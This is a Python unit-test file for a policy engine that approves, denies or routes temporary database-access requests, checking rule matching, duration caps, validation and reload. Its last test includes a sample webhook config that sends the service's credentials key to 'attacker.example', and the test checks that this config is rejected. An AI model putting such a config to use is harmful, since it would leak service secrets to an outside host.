"""Unit tests of the policy engine (lapse_policy.engine): policy dirs written to tmp_path."""

from __future__ import annotations

import os
import uuid
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lapse_policy.engine import Policy, PolicySource
from lapse_shared.catalogue import PolicyDirectory, PolicyDirError
from lapse_shared.events import Outcome, Requester, RequestSubmittedData

CATALOGUE = """\
resources:
  - name: orders-db
    provider: postgres-role
    roles: [app_readonly, app_write]
    max_duration: 8h
  - name: billing-db
    provider: postgres-role
    roles: [reader]
    max_duration: 2h
"""


def _policy_dir(tmp_path: Path, rules: str, *, name: str = "rules.yaml") -> Path:
    (tmp_path / "00-catalogue.yaml").write_text(CATALOGUE, encoding="utf-8")
    (tmp_path / name).write_text(rules, encoding="utf-8")
    return tmp_path


def _request(
    *,
    subject: str = "alice",
    groups: tuple[str, ...] = ("oncall",),
    resource: str = "orders-db",
    role: str = "app_readonly",
    seconds: int = 3600,
) -> RequestSubmittedData:
    return RequestSubmittedData(
        request_id=uuid.uuid4(),
        requester=Requester(subject=subject, groups=list(groups)),
        resource=resource,
        role=role,
        duration_seconds=seconds,
        reason="INC-1",
        submitted_at=datetime(2024, 5, 1, tzinfo=UTC),
    )


APPROVE_ONCALL = """\
rules:
  - name: oncall-readonly
    groups: [oncall]
    resources: [orders-*]
    roles: ["*_readonly"]
    outcome: approve
"""


def test_nothing_matching_is_a_default_deny(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, APPROVE_ONCALL))
    decision = policy.decide(_request(groups=("dev",)))
    assert decision.outcome is Outcome.DENY
    assert decision.rule is None
    assert decision.effective_duration_seconds == 0
    assert any("default deny" in r for r in decision.reasons)


def test_no_rules_at_all_is_a_default_deny(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, "rules: []\n"))
    assert policy.decide(_request()).outcome is Outcome.DENY


def test_a_matching_approve_rule_approves_and_names_the_rule(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, APPROVE_ONCALL))
    request = _request()
    decision = policy.decide(request)
    assert decision.outcome is Outcome.APPROVE
    assert decision.rule == "oncall-readonly"
    assert decision.request_id == request.request_id
    assert decision.effective_duration_seconds == 3600
    assert decision.reasons == ["matched rule 'oncall-readonly'"]
    assert decision.approvals_required == 0
    assert decision.approver_groups == []


def test_rules_match_on_subject_as_well_as_group(tmp_path: Path) -> None:
    rules = """\
rules:
  - name: bob-only
    subjects: [bob]
    outcome: approve
"""
    policy = Policy.load(_policy_dir(tmp_path, rules))
    assert policy.decide(_request(subject="bob", groups=())).outcome is Outcome.APPROVE
    assert policy.decide(_request(subject="alice", groups=())).outcome is Outcome.DENY


def test_resource_and_role_globs_must_both_match(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, APPROVE_ONCALL))
    assert policy.decide(_request(role="app_write")).outcome is Outcome.DENY
    assert policy.decide(_request(resource="billing-db", role="reader")).outcome is Outcome.DENY


def test_an_explicit_deny_wins_even_after_an_approve_rule(tmp_path: Path) -> None:
    rules = """\
rules:
  - name: everyone-approve
    outcome: approve
  - name: no-contractors
    groups: [contractors]
    outcome: deny
    message: contractors may not access production data
"""
    policy = Policy.load(_policy_dir(tmp_path, rules))
    decision = policy.decide(_request(groups=("oncall", "contractors")))
    assert decision.outcome is Outcome.DENY
    assert decision.rule == "no-contractors"
    assert decision.reasons == ["contractors may not access production data"]
    assert decision.effective_duration_seconds == 0
    # The deny only applies to whom it names.
    assert policy.decide(_request(groups=("oncall",))).rule == "everyone-approve"


def test_an_explicit_deny_in_a_later_file_wins(tmp_path: Path) -> None:
    _policy_dir(tmp_path, APPROVE_ONCALL, name="10-approve.yaml")
    (tmp_path / "20-deny.yaml").write_text(
        "rules:\n  - name: freeze\n    resources: [orders-db]\n    outcome: deny\n", encoding="utf-8"
    )
    decision = Policy.load(tmp_path).decide(_request())
    assert decision.outcome is Outcome.DENY
    assert decision.rule == "freeze"
    assert decision.reasons == ["denied by rule 'freeze'"]


def test_the_first_matching_rule_decides(tmp_path: Path) -> None:
    rules = """\
rules:
  - name: oncall-review
    groups: [oncall]
    outcome: review
    approvals: 1
    approver_groups: [sre]
  - name: oncall-approve
    groups: [oncall]
    outcome: approve
"""
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(_request())
    assert decision.outcome is Outcome.REVIEW
    assert decision.rule == "oncall-review"


def test_files_are_read_in_name_order_for_the_first_match(tmp_path: Path) -> None:
    (tmp_path / "00-catalogue.yaml").write_text(CATALOGUE, encoding="utf-8")
    (tmp_path / "b.yaml").write_text("rules:\n  - name: from-b\n    outcome: approve\n", encoding="utf-8")
    (tmp_path / "a.yaml").write_text(
        "rules:\n  - name: from-a\n    outcome: review\n    approvals: 1\n", encoding="utf-8"
    )
    assert Policy.load(tmp_path).decide(_request()).rule == "from-a"


def test_duration_is_capped_by_the_rule_maximum(tmp_path: Path) -> None:
    rules = APPROVE_ONCALL + "    max_duration: 1h\n"
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(_request(seconds=4 * 3600))
    assert decision.outcome is Outcome.APPROVE
    assert decision.effective_duration_seconds == 3600
    assert "duration capped to 3600s" in decision.reasons


def test_duration_is_capped_by_the_resource_maximum(tmp_path: Path) -> None:
    rules = "rules:\n  - name: billing\n    resources: [billing-db]\n    outcome: approve\n"
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(
        _request(resource="billing-db", role="reader", seconds=5 * 3600)
    )
    assert decision.effective_duration_seconds == 2 * 3600
    assert "duration capped to 7200s" in decision.reasons


def test_the_smaller_of_rule_and_resource_maximum_applies(tmp_path: Path) -> None:
    rules = "rules:\n  - name: billing\n    max_duration: 3h\n    outcome: approve\n"
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(
        _request(resource="billing-db", role="reader", seconds=5 * 3600)
    )
    assert decision.effective_duration_seconds == 2 * 3600


def test_a_duration_under_every_cap_is_kept_and_not_reported_as_capped(tmp_path: Path) -> None:
    rules = APPROVE_ONCALL + "    max_duration: 1h\n"
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(_request(seconds=1800))
    assert decision.effective_duration_seconds == 1800
    assert not any("capped" in r for r in decision.reasons)


def test_unknown_resource_is_denied(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, "rules:\n  - name: all\n    outcome: approve\n"))
    decision = policy.decide(_request(resource="payments-db"))
    assert decision.outcome is Outcome.DENY
    assert decision.rule is None
    assert decision.reasons == ["resource 'payments-db' is not in the catalogue"]


def test_unknown_role_is_denied(tmp_path: Path) -> None:
    policy = Policy.load(_policy_dir(tmp_path, "rules:\n  - name: all\n    outcome: approve\n"))
    decision = policy.decide(_request(role="superuser"))
    assert decision.outcome is Outcome.DENY
    assert decision.rule is None
    assert decision.reasons == ["resource 'orders-db' has no role 'superuser'"]


def test_review_carries_approvals_required_and_approver_groups(tmp_path: Path) -> None:
    rules = """\
rules:
  - name: prod-write
    roles: [app_write]
    outcome: review
    approvals: 2
    approver_groups: [sre, dba]
    max_duration: 30m
"""
    decision = Policy.load(_policy_dir(tmp_path, rules)).decide(_request(role="app_write"))
    assert decision.outcome is Outcome.REVIEW
    assert decision.rule == "prod-write"
    assert decision.approvals_required == 2
    assert decision.approver_groups == ["sre", "dba"]
    assert decision.effective_duration_seconds == 1800
    assert "needs 2 approval(s)" in decision.reasons


def test_decision_names_the_policy_version(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    policy = Policy.load(path)
    decision = policy.decide(_request())
    assert decision.policy_version == PolicyDirectory.load(path).version
    assert decision.policy_version.startswith("sha256:")
    assert policy.decide(_request(groups=())).policy_version == decision.policy_version


def test_policy_version_changes_with_the_rules(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    before = Policy.load(path).version
    (path / "rules.yaml").write_text(APPROVE_ONCALL + "    max_duration: 1h\n", encoding="utf-8")
    assert Policy.load(path).version != before


DUPLICATE_RULES = """\
rules:
  - name: same
    outcome: approve
  - name: same
    outcome: deny
"""


def test_load_rejects_duplicate_rule_names(tmp_path: Path) -> None:
    with pytest.raises(PolicyDirError, match="unique") as caught:
        Policy.load(_policy_dir(tmp_path, DUPLICATE_RULES))
    assert "same" in str(caught.value)


def test_duplicate_rule_name_error_names_the_file(tmp_path: Path) -> None:
    # PolicyDirError promises "the message names the file"; Policy.load "naming the file at fault".
    with pytest.raises(PolicyDirError) as caught:
        Policy.load(_policy_dir(tmp_path, DUPLICATE_RULES, name="team-rules.yaml"))
    assert "team-rules.yaml" in str(caught.value)


def test_load_rejects_a_review_rule_without_approvals_naming_the_file(tmp_path: Path) -> None:
    rules = "rules:\n  - name: needs-review\n    outcome: review\n"
    with pytest.raises(PolicyDirError, match="approvals") as caught:
        Policy.load(_policy_dir(tmp_path, rules, name="review.yaml"))
    assert str(caught.value).startswith("review.yaml:")


def test_load_rejects_approvals_on_a_non_review_rule(tmp_path: Path) -> None:
    rules = "rules:\n  - name: odd\n    outcome: approve\n    approvals: 1\n"
    with pytest.raises(PolicyDirError, match=r"^rules\.yaml:.*only apply to `review`"):
        Policy.load(_policy_dir(tmp_path, rules))


def test_load_rejects_unknown_rule_keys_naming_the_file(tmp_path: Path) -> None:
    rules = "rules:\n  - name: typo\n    outcome: approve\n    group: [oncall]\n"
    with pytest.raises(PolicyDirError, match=r"^rules\.yaml:.*group"):
        Policy.load(_policy_dir(tmp_path, rules))


def test_load_rejects_an_unknown_outcome(tmp_path: Path) -> None:
    rules = "rules:\n  - name: maybe\n    outcome: perhaps\n"
    with pytest.raises(PolicyDirError, match=r"^rules\.yaml:.*outcome"):
        Policy.load(_policy_dir(tmp_path, rules))


def _rewrite(file: Path, text: str, mtime_s: int) -> None:
    file.write_text(text, encoding="utf-8")
    os.utime(file, ns=(mtime_s * 1_000_000_000, mtime_s * 1_000_000_000))


def test_policy_source_reloads_a_changed_policy(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    source = PolicySource(path)
    first = source.current(100.0)
    assert first.decide(_request()).outcome is Outcome.APPROVE
    _rewrite(path / "rules.yaml", "rules: []\n", 1_000_000)
    second = source.current(101.0)
    assert second is not first
    assert second.version != first.version
    assert second.decide(_request()).outcome is Outcome.DENY


def test_policy_source_checks_the_files_at_most_once_a_second(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    source = PolicySource(path)
    first = source.current(100.0)
    _rewrite(path / "rules.yaml", "rules: []\n", 1_000_000)
    assert source.current(100.5) is first
    assert source.current(101.0) is not first


def test_policy_source_keeps_the_last_good_policy_when_a_file_breaks(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    source = PolicySource(path)
    good = source.current(100.0)
    _rewrite(path / "rules.yaml", "rules:\n  - name: [unclosed\n", 1_000_000)
    assert source.current(101.0) is good
    assert source.current(102.0) is good
    assert source.current(103.0).decide(_request()).outcome is Outcome.APPROVE


def test_policy_source_keeps_the_last_good_policy_when_a_rule_is_invalid(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    source = PolicySource(path)
    good = source.current(100.0)
    _rewrite(path / "rules.yaml", "rules:\n  - name: r\n    outcome: review\n", 1_000_000)
    assert source.current(101.0) is good


def test_policy_source_picks_up_a_fix_after_a_broken_change(tmp_path: Path) -> None:
    path = _policy_dir(tmp_path, APPROVE_ONCALL)
    source = PolicySource(path)
    good = source.current(100.0)
    _rewrite(path / "rules.yaml", "rules: [unclosed\n", 1_000_000)
    assert source.current(101.0) is good
    _rewrite(path / "rules.yaml", "rules:\n  - name: fixed\n    outcome: deny\n", 2_000_000)
    fixed = source.current(102.0)
    assert fixed is not good
    assert fixed.decide(_request()).rule == "fixed"


def test_policy_source_fails_at_start_on_a_broken_policy(tmp_path: Path) -> None:
    with pytest.raises(PolicyDirError):
        PolicySource(_policy_dir(tmp_path, DUPLICATE_RULES))


def test_load_refuses_a_target_referring_to_a_lapse_setting(tmp_path: Path) -> None:
    """Issue 13, item 6: whoever edits the policy must not send the grant service's secrets out."""
    (tmp_path / "hooks.yaml").write_text(
        """\
resources:
  - name: exfil
    provider: webhook
    target:
      url: https://attacker.example/hook
      secret: "${LAPSE_CREDENTIALS_KEY}"
    roles: [x]
    max_duration: 1h
""",
        encoding="utf-8",
    )
    policy, problems = Policy.check(tmp_path)
    assert policy is None
    assert [(p.file, p.line) for p in problems] == [("hooks.yaml", 5)]  # the target mapping
    assert "${LAPSE_CREDENTIALS_KEY} may not be expanded" in problems[0].message
    with pytest.raises(PolicyDirError, match="LAPSE_CREDENTIALS_KEY"):
        PolicySource(tmp_path)
